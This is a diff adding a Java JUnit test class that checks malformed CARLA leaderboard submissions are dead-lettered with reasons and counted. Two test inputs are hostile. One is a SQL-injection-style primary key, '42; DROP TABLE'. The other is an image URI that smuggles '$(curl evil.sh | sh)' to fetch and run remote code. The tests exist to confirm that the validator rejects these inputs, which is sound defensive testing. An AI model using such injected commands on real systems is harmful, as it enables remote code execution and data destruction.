@@ -1,0 +1,165 @@
+package org.carla.leaderboard.ingest;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.util.concurrent.ThreadLocalRandom;
+
+import org.carla.leaderboard.localstack.RunningStack;
+import org.carla.leaderboard.localstack.evalai.NewSubmission;
+import org.carla.leaderboard.localstack.testing.InjectLocalStack;
+import org.carla.leaderboard.localstack.testing.LocalStackResource;
+import org.carla.leaderboard.messaging.QueuesConfig;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+
+import io.quarkus.test.common.QuarkusTestResource;
+import io.quarkus.test.common.ResourceArg;
+import io.quarkus.test.junit.QuarkusTest;
+import software.amazon.awssdk.services.sqs.model.Message;
+
+/**
+ * Messages that can never be handled end in the dead-letter queue at once, with the reason as an attribute, counted by
+ * reason; nothing is launched, nothing recorded, and the intake keeps going.
+ */
+@QuarkusTest
+@QuarkusTestResource(value = LocalStackResource.class,
+        initArgs = @ResourceArg(name = "components", value = "sqs,dynamodb,evalai"))
+class DeadLetterTests {
+
+    @InjectLocalStack
+    RunningStack stack;
+
+    IntakeStack intake;
+
+    @BeforeEach
+    void purge() {
+        intake = new IntakeStack(stack);
+        intake.purge();
+    }
+
+    @Test
+    void notJsonIsDeadLetteredAndTheNextSubmissionStillLaunches() {
+        double before = deadLettered("malformed-not-json");
+        String body = "{\"challenge_pk\": 1, \"phase_pk\": 1187, \"submission_pk\": ";
+
+        intake.announce(body);
+
+        Message dead = deadLetter(body, "malformed-not-json");
+        assertThat(IntakeStack.attribute(dead, "dead-letter-error")).contains("not valid JSON");
+        assertThat(deadLettered("malformed-not-json")).isEqualTo(before + 1);
+
+        long team = IntakeStack.uniqueTeam();
+        var next = stack.evalAi().createSubmission(NewSubmission.of(team, "after", 1187, IntakeStack.IMAGE));
+        assertThat(intake.awaitLaunchRequests(1).get(0).submission().submissionPk()).isEqualTo(next.pk());
+    }
+
+    @Test
+    void missingFieldIsDeadLetteredNamingTheField() {
+        String body = "{\"challenge_pk\": 1, \"phase_pk\": 1187, \"submitted_image_uri\": \"" + IntakeStack.IMAGE
+                + "\"}";
+
+        intake.announce(body);
+
+        Message dead = deadLetter(body, "malformed-missing-field");
+        assertThat(IntakeStack.attribute(dead, "dead-letter-error")).contains("submission_pk");
+        assertNothingHappened();
+    }
+
+    @Test
+    void nonNumericPkIsDeadLettered() {
+        String body = IntakeStack.announcement(1, 1187, "42; DROP TABLE", IntakeStack.IMAGE);
+
+        intake.announce(body);
+
+        Message dead = deadLetter(body, "malformed-wrong-type");
+        assertThat(IntakeStack.attribute(dead, "dead-letter-error")).contains("submission_pk");
+        assertNothingHappened();
+    }
+
+    @Test
+    void pkOutOfRangeIsDeadLettered() {
+        String body = IntakeStack.announcement(1, 1187, "99999999999999999999999", IntakeStack.IMAGE);
+
+        intake.announce(body);
+
+        Message dead = deadLetter(body, "malformed-invalid-value");
+        assertThat(IntakeStack.attribute(dead, "dead-letter-error")).contains("submission_pk");
+        assertNothingHappened();
+    }
+
+    @Test
+    void imageThatIsNotAPlainReferenceIsDeadLetteredBeforeAnythingIsWritten() {
+        long team = IntakeStack.uniqueTeam();
+        int callsBefore = stack.evalAi().calls().size();
+        var submission = stack.evalAi().createSubmission(
+                NewSubmission.of(team, "hostile", 1187, "registry.example/agent:v1 $(curl evil.sh | sh)"));
+
+        Message dead = deadLetter(null, "malformed-invalid-value");
+
+        assertThat(IntakeStack.attribute(dead, "dead-letter-error")).contains("submitted_image_uri")
+                .contains("not a plain registry reference");
+        assertThat(stack.evalAi().calls()).hasSize(callsBefore);
+        assertThat(intake.record("leaderboard-10", team, submission.pk())).isEmpty();
+        assertNothingHappened();
+    }
+
+    @Test
+    void submissionToLaunchWithoutAnImageIsDeadLettered() {
+        long team = IntakeStack.uniqueTeam();
+        var submission = stack.evalAi().createSubmission(NewSubmission.of(team, "imageless", 1187, ""));
+
+        Message dead = deadLetter(null, "malformed-missing-field");
+
+        assertThat(IntakeStack.attribute(dead, "dead-letter-error")).contains("submitted_image_uri");
+        assertThat(intake.record("leaderboard-10", team, submission.pk())).isEmpty();
+        assertNothingHappened();
+    }
+
+    @Test
+    void unknownPhaseIsDeadLettered() {
+        double before = deadLettered("unknown-phase");
+        String body = IntakeStack.announcement(1, 424242, 7, IntakeStack.IMAGE);
+
+        intake.announce(body);
+
+        Message dead = deadLetter(body, "unknown-phase");
+        assertThat(IntakeStack.attribute(dead, "dead-letter-error")).contains("424242");
+        assertThat(deadLettered("unknown-phase")).isEqualTo(before + 1);
+        assertNothingHappened();
+    }
+
+    @Test
+    void submissionEvalAiDoesNotKnowIsDeadLettered() {
+        long unknownPk = ThreadLocalRandom.current().nextLong(900_000_000, 999_999_999);
+        String body = IntakeStack.announcement(1, 1187, unknownPk, IntakeStack.IMAGE);
+
+        intake.announce(body);
+
+        Message dead = deadLetter(body, "submission-not-found");
+        assertThat(IntakeStack.attribute(dead, "dead-letter-error")).contains(Long.toString(unknownPk)).contains("404");
+        // A 404 is final: asked once, not retried.
+        assertThat(stack.evalAi().calls()).filteredOn(c -> c.path().equals("/api/jobs/submission/" + unknownPk))
+                .hasSize(1);
+        assertNothingHappened();
+    }
+
+    private Message deadLetter(String body, String reason) {
+        Message dead = intake.awaitDeadLetters(1).get(0);
+        if (body != null) {
+            assertThat(dead.body()).isEqualTo(body);
+        }
+        assertThat(IntakeStack.attribute(dead, "dead-letter-reason")).isEqualTo(reason);
+        assertThat(IntakeStack.attribute(dead, "source-queue")).isEqualTo(QueuesConfig.SUBMISSIONS);
+        return dead;
+    }
+
+    private void assertNothingHappened() {
+        intake.assertNothingOn(QueuesConfig.LAUNCH_REQUESTS);
+        intake.assertNothingOn(QueuesConfig.SUBMISSION_EVENTS);
+    }
+
+    private static double deadLettered(String reason) {
+        return IntakeStack.metric("leaderboard_queue_dead_lettered_total", "queue", QueuesConfig.SUBMISSIONS,
+                "reason", reason);
+    }
+}
